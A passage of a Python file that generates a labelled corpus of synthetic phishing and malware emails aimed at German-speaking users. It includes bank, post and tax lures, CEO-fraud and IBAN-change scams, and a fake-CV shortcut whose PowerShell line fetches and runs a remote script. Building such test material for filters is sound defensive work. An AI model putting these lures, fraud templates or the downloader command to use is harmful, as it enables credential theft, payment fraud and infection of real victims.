  dkim=[("studio-ferrari-pr.it", "a1")], origin="exim", cip="102.89.47.130")

M("dpd-smuggling", "malware", "webde", ("Kerstin Roth", "kerstin.roth@web.de"),
  ("DPD Deutschland", "info@dpd-paketinfo.net"),
  "Zustellversuch fehlgeschlagen – Zustellnachweis 01465 5540 2217", "2024-11-05 17:40:12",
  "147.45.44.131", "mail.dpd-paketinfo.net", "pass/pass/none",
  mixed("----=_NextPart_dpd_71e0a2",
        alt(page("DPD", "#dc0032", "Wir haben Sie leider nicht angetroffen", [
            "Guten Tag,", "Ihr Paket 01465 5540 2217 konnte heute nicht zugestellt werden. Den Zustellnachweis "
            "mit Ihrer Abholnummer finden Sie im Anhang. Bitte drucken Sie ihn aus und legen Sie ihn im Pickup "
            "Paketshop vor."], None, "DPD Deutschland GmbH &middot; Wailandtstra&szlig;e 1 &middot; 63741 Aschaffenburg",
            style=1), "----=_alt_dpd_71e0a2"),
        attachment("text/html", "DPD_Zustellbenachrichtigung_0146.html", DPD_HTML.encode())),
  "DPD missed-delivery notice with an HTML attachment that smuggles a ZIP (VBS downloader) out of a base64 blob "
  "and triggers its download in the browser.",
  dkim=[("dpd-paketinfo.net", "default")], origin="postfix")

# ---- Austria

M("a1-rechnung", "phishing", "a1", ("Franz Huber", "franz.huber@a1.net"),
  ("A1 Kundenservice", "service@a1-kundenportal.at"),
  "Ihre A1 Rechnung konnte nicht abgebucht werden", "2025-01-22 12:30:04",
  "91.202.233.145", "mail.a1-kundenportal.at", "pass/pass/none",
  alt(page("A1", "#da291c", "Offener Betrag auf Ihrem Kundenkonto", [
      "Sehr geehrter Herr Huber,",
      "die Abbuchung Ihrer A1 Rechnung vom J&auml;nner 2025 &uuml;ber <b>39,90&nbsp;&euro;</b> wurde von Ihrer Bank "
      "abgelehnt. Bitte begleichen Sie den offenen Betrag online, um eine Sperre Ihres Anschlusses und "
      "Mahnspesen zu vermeiden."],
      ("Jetzt bezahlen", "https://a1-kundenportal.at/mein-a1/zahlung/?rn=" + tok("a1", 10, "0123456789")),
      "A1 Telekom Austria AG &middot; Lassallestra&szlig;e 9 &middot; 1020 Wien"), "b1_a1rg2201"),
  "A1 failed-debit notice to an a1.net customer from a look-alike .at domain, linking to a card-payment page.",
  dkim=[("a1-kundenportal.at", "default")], origin="php", extra=[PHPMAILER])

M("post-at", "phishing", "gmxat", ("Maria Gruber", "maria.gruber@gmx.at"),
  ("Österreichische Post", "info@post-at-sendungsverfolgung.com"),
  "Ihr Paket konnte nicht zugestellt werden – Zustellgebühr offen", "2024-11-28 07:14:39",
  "194.26.192.77", "mx.post-at-sendungsverfolgung.com", "pass/pass/none",
  alt(page("&Ouml;sterreichische Post", "#ffdc00", "Ihre Sendung RR 4471 0928 5AT", [
      "Sehr geehrte Kundin, sehr geehrter Kunde,",
      "Ihre Sendung konnte nicht zugestellt werden, da eine Zustellgeb&uuml;hr von <b>1,49&nbsp;&euro;</b> offen ist. "
      "Bitte w&auml;hlen Sie einen neuen Zustelltermin und begleichen Sie die Geb&uuml;hr."],
      ("Zustellung planen", "https://t.ly/xR4dQ"),
      "&Ouml;sterreichische Post AG &middot; Rochusplatz 1 &middot; 1030 Wien", style=1), "=_post_at_0c3a"),
  "Post.at unpaid delivery-fee lure from a look-alike domain whose only link is a t.ly short URL.",
  dkim=[("post-at-sendungsverfolgung.com", "mail")], origin="postfix")

FON_HTML = ("<html><head><meta http-equiv=\"refresh\" content=\"0; url=https://finanzonline-erstattung.netlify.app/"
            "?fon=" + tok("fon", 18) + "\"><title>FinanzOnline</title></head>\n<body><p>Sie werden zu FinanzOnline "
            "weitergeleitet ...</p><script>window.location.replace('https://finanzonline-erstattung.netlify.app/?fon="
            + tok("fon", 18) + "&e='+btoa('johann.pichler@gmx.at'));</script></body></html>\n")

M("finanzonline-html", "phishing", "gmxat", ("Johann Pichler", "johann.pichler@gmx.at"),
  ("FinanzOnline", "noreply@bmf-finanzonline-service.at"),
  "Rückerstattung Arbeitnehmerveranlagung 2024 – EUR 623,18", "2025-06-17 10:55:20",
  "185.196.9.41", "mail.bmf-finanzonline-service.at", "pass/none/none",
  mixed("----=_fon_6b29e0",
        text("Sehr geehrte Abgabepflichtige, sehr geehrter Abgabepflichtiger,\n\nauf Grund Ihrer "
             "Arbeitnehmerveranlagung 2024 ergibt sich eine Gutschrift von EUR 623,18.\nUm die Rückerstattung auf "
             "Ihr Konto zu veranlassen, öffnen Sie bitte das beigefügte Formular und bestätigen Sie Ihre Daten.\n\n"
             "Bundesministerium für Finanzen\nFinanzOnline\n"),
        attachment("text/html", "FinanzOnline_Rueckerstattung_2024.html", FON_HTML.encode())),
  "FinanzOnline refund lure with an HTML attachment that immediately redirects (meta refresh and JavaScript, "
  "victim address appended) to a Netlify phishing page.",
  origin="postfix")

ELBA_QR = "https://elba-pushtan.raiffeisen-at.help/login?ref=" + tok("elba", 16)
M("elba-qr", "phishing", "a1", ("Christine Bauer", "christine.bauer@a1.net"),
  ("Raiffeisen ELBA", "elba@raiffeisen-elba-sicherheit.at"),
  "ELBA: Ihre pushTAN-Freigabe muss erneuert werden", "2025-09-09 08:07:26",
  "5.252.176.19", "mail.raiffeisen-elba-sicherheit.at", "pass/pass/none",
  Multi("related", "----=_rel_elba_9d1", [
      alt(page("Raiffeisen", "#fee600", "Erneuerung Ihrer pushTAN-Freigabe", [
          "Sehr geehrte Kundin, sehr geehrter Kunde,",
          "aufgrund eines Sicherheitsupdates muss Ihre pushTAN-Freigabe in Mein ELBA erneuert werden. Scannen Sie "
          "bitte den QR-Code mit Ihrem Smartphone, um die Erneuerung durchzuf&uuml;hren:",
          '<img src="cid:elbaqr01" width="170" height="170" alt="">',
          "Die Erneuerung muss bis 12.09.2025 erfolgen. Danach k&ouml;nnen keine Auftr&auml;ge mehr freigegeben werden."],
          None, "Raiffeisen Bankengruppe &Ouml;sterreich"), "----=_alt_elba_9d1"),
      inline_png("elba.png", files.qr_png(ELBA_QR), "elbaqr01")]),
  "Raiffeisen ELBA pushTAN renewal with the phishing URL only in an inline QR-code image (quishing), from a "
  "look-alike .at domain.",
  dkim=[("raiffeisen-elba-sicherheit.at", "k1")], origin="postfix")

M("george-ipfs", "phishing", "gmail", ("Lukas Steiner", "lukas.steiner.wien@gmail.com"),
  ("George | Erste Bank", "george@erstebank-kundeninfo.at"),
  "George: Ihre s Identity muss bestätigt werden", "2025-03-26 18:44:51",
  "45.141.215.20", "mail.erstebank-kundeninfo.at", "pass/pass/pass",
  alt(page("George", "#2870ed", "Bitte best&auml;tigen Sie Ihre s Identity", [
      "Hallo Lukas,", "wir haben Ihre s Identity App auf ein neues Sicherheitsverfahren umgestellt. Damit Sie "
      "George weiterhin nutzen k&ouml;nnen, best&auml;tigen Sie bitte einmalig Ihre Verf&uuml;gernummer und Ihr "
      "Ger&auml;t.", "Nicht best&auml;tigte Zug&auml;nge werden nach 48 Stunden gesperrt."],
      ("Jetzt best&auml;tigen", "https://bafybeih4qk7zv3e2xw6ltmfd5n7o3ygqcr2wjx4aepsz6bu5mhkvtr7yli.ipfs.dweb.link/"
       "george/?id=" + tok("gg", 12)),
      "Erste Bank der oesterreichischen Sparkassen AG &middot; Am Belvedere 1 &middot; 1100 Wien", lang="de"),
      "000000000000c7a2e1063ae81f29"),
  "Erste Bank George / s Identity confirmation lure from a look-alike domain, linking to a page hosted on an IPFS "
  "gateway.",
  dkim=[("erstebank-kundeninfo.at", "s1")], policy="quarantine", origin="postfix")

M("id-austria", "phishing", "outlook", ("Sabine Wimmer", "sabine.wimmer@outlook.at"),
  ("ID Austria", "noreply@id-austria-verlaengerung.at"),
  "Ihre ID Austria muss verlängert werden", "2024-10-15 14:26:08",
  "88.214.26.90", "srv.id-austria-verlaengerung.at", "pass/pass/none",
  alt(page("ID Austria", "#c8102e", "Verl&auml;ngerung Ihrer ID Austria", [
      "Sehr geehrte B&uuml;rgerin, sehr geehrter B&uuml;rger,",
      "Ihre ID Austria (Basis-Funktion) l&auml;uft am 31.10.2024 ab. Um weiterhin FinanzOnline, "
      "Gesundheitsportal und Ihre Bank nutzen zu k&ouml;nnen, verl&auml;ngern Sie bitte Ihre ID Austria online.",
      "Halten Sie Ihren Reisepass und Ihre Bankkarte bereit."],
      ("ID Austria verl&auml;ngern", "https://id-austria-verlaengerung.mute-bird-33a1.workers.dev/?a=" + tok("ida", 14)),
      "Bundesministerium f&uuml;r Finanzen &middot; Digitales Amt", style=1), "b1_ida_1015"),
  "ID Austria renewal lure from a look-alike domain, linking to a Cloudflare Workers page that asks for "
  "passport and bank-card data.",
  dkim=[("id-austria-verlaengerung.at", "default")], origin="php", extra=[PHPMAILER])


# ---- Switzerland

M("postfinance-fr", "phishing", "bluewin", ("Nathalie Favre", "nathalie.favre@bluewin.ch"),
  ("PostFinance", "info@postfinance-securite.ch"),
  "Votre compte PostFinance a été temporairement bloqué", "2025-02-18 06:33:15",
  "146.70.87.212", "mail.postfinance-securite.ch", "pass/pass/none",
  alt(page("PostFinance", "#ffcc00", "Action requise sur votre compte", [
      "Ch&egrave;re cliente, cher client,",
      "suite &agrave; une mise &agrave; jour de nos syst&egrave;mes de s&eacute;curit&eacute;, votre acc&egrave;s "
      "e-finance a &eacute;t&eacute; temporairement bloqu&eacute;. Veuillez confirmer vos donn&eacute;es afin de "
      "r&eacute;activer votre compte.", "Sans confirmation sous 48 heures, votre carte PostFinance Card sera "
      "d&eacute;sactiv&eacute;e."],
      ("Confirmer mes donn&eacute;es", "https://www.google.com/url?q=https%3A%2F%2Fpostfinance-ch.login-secure.click"
       "%2Ffr%2F%3Fid%3D" + tok("pf", 12) + "&sa=D&sntz=1&usg=AOvVaw" + tok("pfu", 22)),
      "PostFinance SA &middot; Mingerstrasse 20 &middot; 3030 Berne", lang="fr"), "=_pf_fr_18b2"),
  "French PostFinance account-block lure from a look-alike .ch domain; the link goes through a Google /url "
  "redirect to a .click phishing site.",
  dkim=[("postfinance-securite.ch", "mail")], origin="postfix")

M("swisscom-refund", "phishing", "bluewin", ("Urs Meier", "urs.meier@bluewin.ch"),
  ("Swisscom", "kundendienst@swisscom-rueckerstattung.ch"),
  "Rückerstattung von CHF 64.80 – doppelte Zahlung Ihrer Rechnung", "2024-09-24 15:11:47",
  "194.180.48.59", "mail.swisscom-rueckerstattung.ch", "pass/pass/none",
  alt(page("Swisscom", "#001155", "Sie haben Ihre Rechnung doppelt bezahlt", [
      "Guten Tag Herr Meier",
      "Ihre Rechnung vom August 2024 wurde zweimal beglichen. Wir erstatten Ihnen den Betrag von "
      "<b>CHF 64.80</b> zur&uuml;ck.", "Damit wir die R&uuml;ckerstattung auf Ihre Karte veranlassen k&ouml;nnen, "
      "melden Sie sich bitte mit Ihrem Swisscom Login an und best&auml;tigen Sie die Kartendaten."],
      ("R&uuml;ckerstattung anfordern", "https://swisscom-rueckerstattung.ch/login/?ref=" + tok("sc", 12)),
      "Swisscom (Schweiz) AG &middot; Alte Tiefenaustrasse 6 &middot; 3048 Worblaufen"), "b1_sc_0924"),
  "Swisscom double-payment refund lure to a Bluewin user, from a look-alike domain asking for the Swisscom login "
  "and card data.",
  dkim=[("swisscom-rueckerstattung.ch", "default")], origin="php", extra=[PHPMAILER])

M("sbb-it", "phishing", "gmail", ("Giulia Bernasconi", "giulia.bernasconi@gmail.com"),
  ("FFS SBB CFF", "rimborsi@ffs-rimborso.ch"),
  "Rimborso di CHF 86.40 per il tuo viaggio cancellato", "2025-07-29 11:48:36",
  "45.88.91.200", "mail.ffs-rimborso.ch", "pass/pass/none",
  alt(page("FFS", "#eb0000", "Hai diritto a un rimborso", [
      "Gentile cliente,", "il tuo viaggio Lugano &ndash; Z&uuml;rich HB del 24.07.2025 &egrave; stato cancellato a "
      "causa di lavori sulla linea del San Gottardo. Ti rimborsiamo <b>CHF 86.40</b>.",
      "Per ricevere il rimborso sulla tua carta, compila il modulo entro 5 giorni."],
      ("Richiedi il rimborso", "https://www.pizzeria-lago-maggiore.it/wp-admin/css/ffs/rimborso.php?c=" + tok("sbb", 10)),
      "FFS SA &middot; Hilfikerstrasse 1 &middot; 3000 Berna 65", lang="it", style=1), "----=_ffs_it_729"),
  "Italian SBB/FFS cancelled-trip refund lure from a look-alike domain, linking to a compromised WordPress site.",
  dkim=[("ffs-rimborso.ch", "mail")], origin="postfix")

M("ubs-pdf-qr", "phishing", "bluewin", ("Peter Brunner", "peter.brunner@bluewin.ch"),
  ("UBS Switzerland AG", "ubs.kundendienst@gmx.ch"),
  "Wichtige Mitteilung zu Ihrem UBS Konto", "2025-10-07 09:02:58",
  "212.227.17.21", "mout.gmx.net", "pass/pass/pass",
  mixed("--=_gmx_ubs_a71f",
        text("Sehr geehrter Kunde\n\nIm Anhang finden Sie eine wichtige Mitteilung zur Aktualisierung Ihrer "
             "UBS Access App. Bitte lesen Sie das Dokument bis am 10.10.2025.\n\nFreundliche Grüsse\n"
             "UBS Switzerland AG\n"),
        att("UBS_Mitteilung_Access_App.pdf", pdf_qr([
            "UBS Switzerland AG", "", "Aktualisierung der UBS Access App", "", "Sehr geehrte Kundin, sehr geehrter Kunde",
            "", "Aufgrund neuer FINMA-Vorgaben muss die UBS Access App auf allen Geraeten",
            "neu verifiziert werden. Scannen Sie dazu den untenstehenden QR-Code mit Ihrem",
            "Smartphone und melden Sie sich mit Ihrer Vertragsnummer an.", "",
            "Ohne Verifizierung wird der Zugang zum E-Banking am 10.10.2025 gesperrt.", "", "Freundliche Gruesse",
            "UBS Switzerland AG"], "https://ubs-access.ch-verify.online/app?c=" + tok("ubs", 14), "UBS Mitteilung"))),
  "UBS Access App notice sent from a GMX.ch freemail account named 'UBS Switzerland AG' (authentication passes "
  "for gmx.ch) with a PDF letter whose QR code leads to a phishing page.",
  dkim=[("gmx.ch", "s31663417")], origin="gmxout", cip="178.197.207.41")

M("twint", "phishing", "bluewin", ("Martina Frei", "martina.frei@bluewin.ch"),
  ("TWINT", "no-reply@twint-zahlungen.ch"),
  "Sie haben CHF 150.00 erhalten – Zahlung annehmen", "2025-04-08 19:55:12",
  "45.155.205.77", "mail.twint-zahlungen.ch", "pass/pass/none",
  alt(page("TWINT", "#000000", "Sie haben Geld erhalten", [
      "Hallo Martina", "Thomas M. hat Ihnen <b>CHF 150.00</b> gesendet: &laquo;R&uuml;ckzahlung Konzerttickets&raquo;.",
      "Da Ihre TWINT App nicht mit diesem Konto verkn&uuml;pft ist, m&uuml;ssen Sie die Zahlung innert 24 Stunden "
      "manuell annehmen. Danach wird der Betrag an den Absender zur&uuml;ckerstattet."],
      ("Zahlung annehmen", "https://twint-ch-zahlung.web.app/empfangen?id=" + tok("tw", 16)),
      "TWINT AG &middot; Stauffacherstrasse 60 &middot; 8004 Z&uuml;rich"), "b1_twint_0408"),
  "TWINT 'money received, accept it' lure from a look-alike domain, linking to a Firebase-hosted page that "
  "captures card data.",
  dkim=[("twint-zahlungen.ch", "default")], origin="postfix")

M("estv-fr", "phishing", "outlook", ("Laurent Dubois", "laurent.dubois@hotmail.ch"),
  ("Administration fédérale des contributions AFC", "remboursement@estv-admin.ch"),
  "Remboursement de l'impôt anticipé : CHF 412.50", "2025-05-13 08:40:17",
  "193.233.21.64", "mail.estv-admin.ch", "pass/pass/none",
  alt(page("AFC &middot; ESTV &middot; AFC", "#dc0018", "Avis de remboursement", [
      "Madame, Monsieur,", "apr&egrave;s v&eacute;rification de votre d&eacute;claration, un montant de "
      "<b>CHF 412.50</b> au titre de l'imp&ocirc;t anticip&eacute; doit vous &ecirc;tre rembours&eacute;.",
      "Veuillez saisir vos coordonn&eacute;es bancaires dans le formulaire en ligne dans un d&eacute;lai de 7 jours."],
      ("Acc&eacute;der au formulaire", "https://www.boulangerie-moreau.fr/wp-content/uploads/2025/afc/index.php?id="
       + tok("afc", 12)),
      "Administration f&eacute;d&eacute;rale des contributions AFC &middot; Eigerstrasse 65 &middot; 3003 Berne",
      lang="fr", style=1), "----=_afc_0513"),
  "French ESTV/AFC withholding-tax refund lure from a look-alike domain, linking to a kit on a compromised "
  "French WordPress site.",
  dkim=[("estv-admin.ch", "mail")], origin="postfix")

M("serafe", "phishing", "bluewin", ("Ruth Zimmermann", "ruth.zimmermann@bluewin.ch"),
  ("Serafe AG", "rechnung@serafe.ch"),
  "Mahnung: Radio- und Fernsehabgabe 2025 (CHF 335.00)", "2025-03-18 13:22:09",
  "141.98.11.175", "vps-4471.hostwinds-cloud.net", "softfail/none/fail",
  alt(page("Serafe", "#7ab800", "2. Mahnung", [
      "Sehr geehrte Frau Zimmermann",
      "Trotz unserer Zahlungserinnerung ist die Rechnung f&uuml;r die Radio- und Fernsehabgabe 2025 &uuml;ber "
      "<b>CHF 335.00</b> noch offen.", "Bitte begleichen Sie den Betrag innert 5 Tagen online per Kreditkarte. "
      "Andernfalls leiten wir die Betreibung ein und es fallen zus&auml;tzliche Geb&uuml;hren von CHF 40.00 an."],
      ("Jetzt bezahlen", "https://serafe-rechnung.ch-zahlung.com/pay?ref=" + tok("sr", 10, "0123456789")),
      "Serafe AG &middot; Erhebungsstelle f&uuml;r die Radio- und Fernsehabgabe &middot; 8010 Z&uuml;rich", style=1),
      "==serafe_5d2a=="),
  "Serafe radio/TV levy dunning letter that spoofs serafe.ch directly (SPF softfail, no DKIM, DMARC fail) with a "
  "Betreibung threat and a card-payment link.",
  policy="none", origin="php")

M("swisspost-it", "phishing", "bluewin", ("Marco Rossi", "marco.rossi@bluewin.ch"),
  ("La Posta Svizzera", "notifica@posta-ch-spedizioni.com"),
  "La tua spedizione è in attesa: dazio doganale CHF 2.50", "2024-12-19 10:09:41",
  "176.97.210.8", "mail.posta-ch-spedizioni.com", "pass/pass/none",
  alt(page("La Posta", "#ffcc00", "Spedizione 99.60.141822.10048871 in attesa", [
      "Gentile cliente,", "la tua spedizione proveniente dall'estero &egrave; trattenuta in dogana. Per la consegna "
      "&egrave; necessario pagare un dazio di <b>CHF 2.50</b>.", "Se il pagamento non viene effettuato entro 48 ore, "
      "il pacco sar&agrave; rispedito al mittente."],
      ("Paga ora", "https://posta-ch-tracking.vercel.app/spedizione?id=99601418221004887&k=" + tok("sp", 8)),
      "La Posta Svizzera SA &middot; Wankdorfallee 4 &middot; 3030 Berna", lang="it"), "b1_posta_1219"),
  "Italian Swiss Post customs-fee lure from a look-alike domain, linking to a Vercel-hosted card-capture page.",
  dkim=[("posta-ch-spedizioni.com", "default")], origin="postfix")


# ---- small businesses and Praxen (Microsoft 365 tenants)

IPHONE = "X-Mailer: iPhone Mail (22B91)"
M("ceo-fraud", "phishing", "m365", ("Petra Seidel", "p.seidel@tischlerei-kraemer.de"),
  ("Thomas Krämer", "t.kraemer@tischlerei-kraemer.com"),
  "Dringend – vertraulich", "2025-06-12 08:17:44",
  "185.117.90.12", "mail.tischlerei-kraemer.com", "pass/pass/none",
  text("Hallo Frau Seidel,\n\nsind Sie heute im Büro? Ich brauche Ihre Unterstützung bei einer dringenden "
       "Überweisung.\n\nWir übernehmen die Holzwerkstatt Engel in Kaufbeuren. Das Ganze ist noch streng vertraulich, "
       "bitte sprechen Sie mit niemandem darüber, auch nicht mit Kai oder dem Steuerbüro, bis wir es offiziell "
       "machen. Die Anzahlung von 48.500 € muss heute noch an das Treuhandkonto des Notars gehen.\n\nIch schicke "
       "Ihnen gleich die Bankdaten. Ich bin den ganzen Tag in Terminen und nur per Mail erreichbar.\n\n"
       "Thomas Krämer\nGeschäftsführer\n\nVon meinem iPhone gesendet\n"),
  "CEO fraud to the bookkeeper of a joinery from a look-alike .com of the company's own .de domain: secret "
  "acquisition, urgent transfer, no link.",
  dkim=[("tischlerei-kraemer.com", "default")], origin="postfix", extra=[IPHONE])

KABEL_QUOTE = ("\n________________________________\nVon: Monika Leitner <buchhaltung@elektro-haberl.at>\n"
               "Gesendet: Dienstag, 3. Juni 2025 09:14\nAn: Buchhaltung Kabelwerk Süd <buchhaltung@kabelwerk-sued.de>\n"
               "Betreff: AW: Rechnung RE-2025-0412\n\nGuten Morgen Frau Kern,\n\ndanke für die Rechnung. Die Zahlung "
               "ist für Ende der Woche vorgesehen.\n\nLiebe Grüße\nMonika Leitner\nBuchhaltung\nElektro Haberl GmbH\n"
               "Gewerbestraße 12, 4600 Wels\n\n________________________________\nVon: Buchhaltung Kabelwerk Süd "
               "<buchhaltung@kabelwerk-sued.de>\nGesendet: Montag, 2. Juni 2025 15:40\nAn: Monika Leitner\n"
               "Betreff: Rechnung RE-2025-0412\n\nSehr geehrte Damen und Herren,\nanbei erhalten Sie unsere Rechnung "
               "RE-2025-0412 zur Lieferung vom 28.05.2025.\n")
KABEL_BODY = ("Sehr geehrte Frau Leitner,\n\nvielen Dank für Ihre Rückmeldung. Bitte beachten Sie vor der Zahlung: "
              "Aufgrund einer Umstellung im Konzern hat sich unsere Bankverbindung geändert. Bitte überweisen Sie den "
              "Betrag von 18.740,60 € ab sofort ausschließlich auf unser neues Konto:\n\nKontoinhaber: Kabelwerk Süd "
              "GmbH\nBank: Revolut Bank UAB\nIBAN: LT42 3250 0671 9384 2210\nBIC: REVOLT21\n\nDie bisherige "
              "Verbindung bei der Sparkasse ist nicht mehr aktiv. Die korrigierte Rechnung finden Sie im Anhang.\n\n"
              "Mit freundlichen Grüßen\n\nAnja Kern\nBuchhaltung\nKabelwerk Süd GmbH\nIndustriestraße 40, 89231 "
              "Neu-Ulm\n" + KABEL_QUOTE)
M("reply-iban-compromised", "phishing", "m365", ("Monika Leitner", "buchhaltung@elektro-haberl.at"),
  ("Buchhaltung Kabelwerk Süd", "buchhaltung@kabelwerk-sued.de"),
  "AW: Rechnung RE-2025-0412 – neue Bankverbindung", "2025-06-04 11:02:37",
  "40.107.22.91", "EUR05-AM6-obe.outbound.protection.outlook.com", "pass/pass/pass",
  mixed("_004_DU2PR04MB8712kabel_",
        person(KABEL_BODY, "outlook", "_000_DU2PR04MB8712kabel_"),
        att("RE-2025-0412_korrigiert.pdf", pdf_doc([
            "Kabelwerk Sued GmbH - Industriestrasse 40 - 89231 Neu-Ulm", "", "RECHNUNG RE-2025-0412 (korrigiert)", "",
            "Kunde: Elektro Haberl GmbH, Gewerbestrasse 12, 4600 Wels", "Lieferung vom 28.05.2025", "",
            "NYM-J 5x2,5 mm2, 500 m      3.980,00 EUR", "H07RN-F 3G1,5, 1000 m       6.212,00 EUR",
            "Installationsmaterial div.   5.556,50 EUR", "", "Netto 15.748,50 EUR  USt 19% 2.992,10 EUR",
            "Gesamt 18.740,60 EUR", "", "Neue Bankverbindung: Revolut Bank UAB",
            "IBAN LT42 3250 0671 9384 2210  BIC REVOLT21"], title="RE-2025-0412"))),
  "Reply-chain hijack from a supplier's compromised Microsoft 365 mailbox (all authentication passes): the real "
  "invoice thread continues with a 'new bank account' at a foreign IBAN and a doctored PDF.",
  dkim=[("kabelwerk-sued.de", "selector1")], policy="quarantine", origin="m365",
  extra=["In-Reply-To: <VI1PR04MB6143C0A1E2D88@VI1PR04MB6143.eurprd04.prod.outlook.com>",
         "References: <DU2PR04MB87125A6E0F11@DU2PR04MB8712.eurprd04.prod.outlook.com>\n"
         " <VI1PR04MB6143C0A1E2D88@VI1PR04MB6143.eurprd04.prod.outlook.com>",
         "Thread-Topic: Rechnung RE-2025-0412", "Content-Language: de-DE"])

M("iban-lookalike", "phishing", "m365", ("Sabine Ott", "s.ott@praxis-dr-brenner.de"),
  ("Medizintechnik Vogt GmbH", "rechnung@medizintechnik-vogt.com"),
  "AW: Wartungsvertrag Sterilisator – Rechnung 2025-1187", "2025-09-23 14:36:19",
  "185.20.209.12", "sender4-op-o12.zoho.eu", "pass/pass/none",
  person("Hallo Frau Ott,\n\nbesten Dank für die schnelle Freigabe. Ein kurzer Hinweis noch: Wir haben zum 01.09. "
         "unsere Hausbank gewechselt. Bitte verwenden Sie für die Rechnung 2025-1187 (1.284,50 €) und alle künftigen "
         "Zahlungen nur noch die folgende Verbindung:\n\nMedizintechnik Vogt GmbH\nIBAN: DE89 1101 0101 5634 8821 07\n"
         "BIC: SOBKDEB2XXX\n\nEine Bestätigung der Änderung auf unserem Briefpapier reiche ich gern nach.\n\n"
         "Freundliche Grüße\nMarkus Vogt\nMedizintechnik Vogt GmbH\n\n"
         "-----Ursprüngliche Nachricht-----\nVon: Sabine Ott <s.ott@praxis-dr-brenner.de>\nGesendet: Montag, 22. "
         "September 2025 16:02\nAn: rechnung@medizintechnik-vogt.de\nBetreff: AW: Wartungsvertrag Sterilisator – "
         "Rechnung 2025-1187\n\nHallo Herr Vogt,\ndie Rechnung ist freigegeben und geht diese Woche raus.\n"
         "Viele Grüße\nSabine Ott\nPraxismanagement\n", "outlook", "----=_zoho_vogt_0923"),
  "Invoice-fraud thread hijack to a dental practice from a look-alike (.com instead of .de) of the real supplier "
  "quoted below: 'new house bank' with a German neobank IBAN, no link or attachment.",
  dkim=[("medizintechnik-vogt.com", "zmail")], origin="postfix")

LNK_CV = files.lnk_shortcut("C:\\Windows\\System32\\cmd.exe",
                            '/c start "" /min powershell -w 1 -ep bypass -c "iex(iwr '
                            "'https://bewerbungsportal-cloud.net/cv/l.ps1' -useb)\"")
M("bewerbung-lnk", "malware", "m365", ("Personalabteilung", "bewerbung@kfz-wolf.de"),
  ("Lena Hofmann", "lena.hofmann.bewerbung@web.de"),
  "Bewerbung als Kauffrau für Büromanagement – Lena Hofmann", "2025-01-14 09:48:03",
  "217.72.192.78", "mout.web.de", "pass/pass/pass",
  mixed("--=_webde_lh_0114",
        text("Sehr geehrte Damen und Herren,\n\nmit großem Interesse habe ich Ihre Stellenanzeige als Kauffrau für "
             "Büromanagement (m/w/d) gelesen. Im Anhang finden Sie meine vollständigen Bewerbungsunterlagen "
             "(Anschreiben, Lebenslauf, Zeugnisse) als ZIP-Datei.\n\nÜber eine Einladung zu einem persönlichen "
             "Gespräch freue ich mich sehr.\n\nMit freundlichen Grüßen\nLena Hofmann\n"),
        att("Bewerbung_Lena_Hofmann.zip", files.zip_archive([
            ("Bewerbung_Lena_Hofmann/Lebenslauf_Lena_Hofmann.pdf.lnk", LNK_CV),
            ("Bewerbung_Lena_Hofmann/Foto.jpg", files.photo_jpeg(28, (240, 320)))]), "application/zip")),
  "Fake job application to a car workshop's HR address from a WEB.DE freemail account: ZIP with a "
  "'Lebenslauf.pdf.lnk' shortcut that runs a PowerShell downloader.",
  dkim=[("web.de", "s29768273")], policy="quarantine", origin="gmxout", cip="93.203.144.71")

ISO_DATA = files.iso_image([
    ("Bewerbungsunterlagen_Marco_Schulz.lnk",
     files.lnk_shortcut("C:\\Windows\\System32\\rundll32.exe", "lebenslauf.dat,DllRegisterServer")),
    ("lebenslauf.dat", files.pe_stub())], "BEWERBUNG")
M("bewerbung-iso", "malware", "m365", ("Gerhard Maier", "info@steuerbuero-maier.de"),
  ("Marco Schulz", "marco.schulz87@gmx.de"),
  "Bewerbung auf Ihre Stellenanzeige Steuerfachangestellter (m/w/d)", "2024-05-22 16:05:29",
  "212.227.17.22", "mout.gmx.net", "pass/pass/pass",
  mixed("--=_gmx_ms_0522",
        text("Sehr geehrter Herr Maier,\n\nhiermit bewerbe ich mich auf die bei der Agentur für Arbeit "
             "ausgeschriebene Stelle als Steuerfachangestellter. Meine Unterlagen habe ich Ihnen als Datei "
             "angehängt (bitte mit Doppelklick öffnen).\n\nFür Rückfragen erreichen Sie mich unter 0176 48822913.\n\n"
             "Mit freundlichen Grüßen\nMarco Schulz\n"),
        att("Bewerbungsunterlagen_Marco_Schulz.iso", ISO_DATA, "application/x-iso9660-image")),
  "Fake application to a tax office from a GMX freemail account with an ISO disc image holding a shortcut that "
  "starts a DLL via rundll32.",
  dkim=[("gmx.de", "s31663417")], policy="quarantine", origin="gmxout", cip="89.244.81.17")

DS = "https://docusign-esignature.net/Signing/EmailStart.aspx?a="
M("docusign-lookalike", "phishing", "m365", ("Andreas Haberl", "a.haberl@elektro-haberl.at"),
  ("DocuSign via Hausverwaltung Roth", "dse@docusign-esignature.net"),
  "Bitte mit DocuSign unterschreiben: Mietvertrag_Halle3_2025.pdf", "2025-02-11 13:19:52",
  "23.94.5.172", "mta.docusign-esignature.net", "pass/pass/none",
  alt(page("DocuSign", "#1e4ca1", "Hausverwaltung Roth hat Ihnen ein Dokument zum &Uuml;berpr&uuml;fen und "
           "Unterzeichnen gesendet.", [
      "Sehr geehrter Herr Haberl,<br>anbei der angepasste Mietvertrag f&uuml;r die Gewerbefl&auml;che Halle 3 mit "
      "der Bitte um Unterzeichnung bis Freitag.<br>Mit freundlichen Gr&uuml;&szlig;en<br>Eva Roth"],
      ("DOKUMENT &Uuml;BERPR&Uuml;FEN", f"{DS}{tok('ds1', 8, HEX)}-{tok('ds2', 4, HEX)}-{tok('ds3', 4, HEX)}-"
       f"{tok('ds4', 12, HEX)}&etti=24&acct={tok('ds5', 8, HEX)}&er={tok('ds6', 8, HEX)}"),
      "Diese Nachricht enth&auml;lt einen sicheren Link zu DocuSign. Bitte geben Sie diesen Link nicht an andere "
      "weiter.<br>Alternative Signaturmethode: Besuchen Sie DocuSign.com und geben Sie den Sicherheitscode ein: "
      + tok("ds7", 32, HEX).upper()), "b1_dsgn_0211"),
  "DocuSign look-alike envelope for a commercial lease, sent from a look-alike domain to an electrical firm; the "
  "'review document' button leads to a Microsoft 365 credential page.",
  dkim=[("docusign-esignature.net", "s1")], origin="postfix")

SP_URL = ("https://steuerkanzlei-hoffmann.sharepoint.com/:b:/g/personal/s_hoffmann_steuerkanzlei-hoffmann_de/"
          "Ea" + tok("sp1", 44, ALNUM + "-_") + "?e=" + tok("sp2", 6))
M("sharepoint-genuine", "phishing", "m365", ("Sabine Ott", "s.ott@praxis-dr-brenner.de"),
  ("Stefan Hoffmann", "no-reply@sharepointonline.com"),
